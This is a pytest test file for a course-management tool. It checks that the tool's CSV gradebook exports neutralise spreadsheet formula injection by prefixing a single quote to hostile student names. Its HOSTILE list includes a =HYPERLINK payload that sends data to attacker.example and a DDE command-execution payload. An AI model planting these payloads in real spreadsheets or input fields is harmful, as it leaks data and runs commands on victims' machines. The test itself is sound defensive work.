"""CSV injection: the CSV files tito writes never hold a cell a spreadsheet would run as a formula.

A student id is whatever the roster (or a student's own exchange submission) says. Names that start with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return are formulas to Excel and LibreOffice (``=HYPERLINK``
sends the sheet's data to a URL). Each goes into a real nbgrader gradebook; `tito class status --csv` and
`tito nbgrader report` must write it with a single quote in front (OWASP), keep honest names and numbers as
they are, and keep the JSON exact.
"""

from __future__ import annotations

import csv
import json
import sys
from pathlib import Path

import pytest

from tito_jupyter import engine
from tito_jupyter.engine.context import Context
from tito_jupyter.engine.instructor.spreadsheet import FORMULA_STARTS

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))

from course_factory import make_course  # noqa: E402

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?d="&A2,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
HONEST = ["alice", "o'brien", "1=1"]  # a quote inside, an equals sign not at the start: left as they are


def run(root: Path, command: str, args: dict | None = None):
    return engine.run(command, args or {}, Context(project=root))


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    from nbgrader.api import Gradebook

    root = make_course(tmp_path_factory.mktemp("csv") / "course")
    for command, args in (("nbgrader.init", {}), ("nbgrader.generate", {"all_": True})):
        result = run(root, command, args)
        assert result.ok, result.summary
    with Gradebook(f"sqlite:///{root / 'nbgrader'}/gradebook.db", "tinytorch") as gb:
        for student in HOSTILE + HONEST:
            gb.update_or_create_student(student)
    return root


def read_csv(path: str) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def assert_no_formula(rows: list[dict]) -> None:
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS), f"{column}={value!r} would run as a formula"


def test_class_status_csv_quotes_every_name_a_spreadsheet_would_run(course, tmp_path):
    result = run(course, "class.status", {"csv_": str(tmp_path / "class.csv")})
    assert result.ok, result.summary
    rows = read_csv(result.data["csv"])
    assert_no_formula(rows)
    written = {r["student"] for r in rows}
    assert written == {"'" + name for name in HOSTILE} | set(HONEST)
    assert set(result.data["students"]) == set(HOSTILE + HONEST)  # the data keeps every name exactly
    assert {r["score"] for r in rows} == {"0.0"} and {r["max_score"] for r in rows} == {"3.0", "1.0"}


def test_nbgrader_report_csv_quotes_them_too_and_its_json_keeps_them(course, tmp_path):
    result = run(course, "nbgrader.report", {"out": str(tmp_path)})
    assert result.ok, result.summary
    rows = read_csv(result.data["csv"])
    assert_no_formula(rows)
    assert {r["student"] for r in rows} == {"'" + name for name in HOSTILE} | set(HONEST)
    document = json.loads(Path(result.data["json"]).read_text(encoding="utf-8"))
    assert {g["student"] for g in document["grades"]} == set(HOSTILE + HONEST)


def test_a_negative_number_stays_a_number():
    from tito_jupyter.engine.instructor.spreadsheet import csv_text

    text = csv_text([{"student": "-x", "score": -1.5, "note": None}], ("student", "score", "note"))
    assert text == "student,score,note\r\n'-x,-1.5,\r\n"
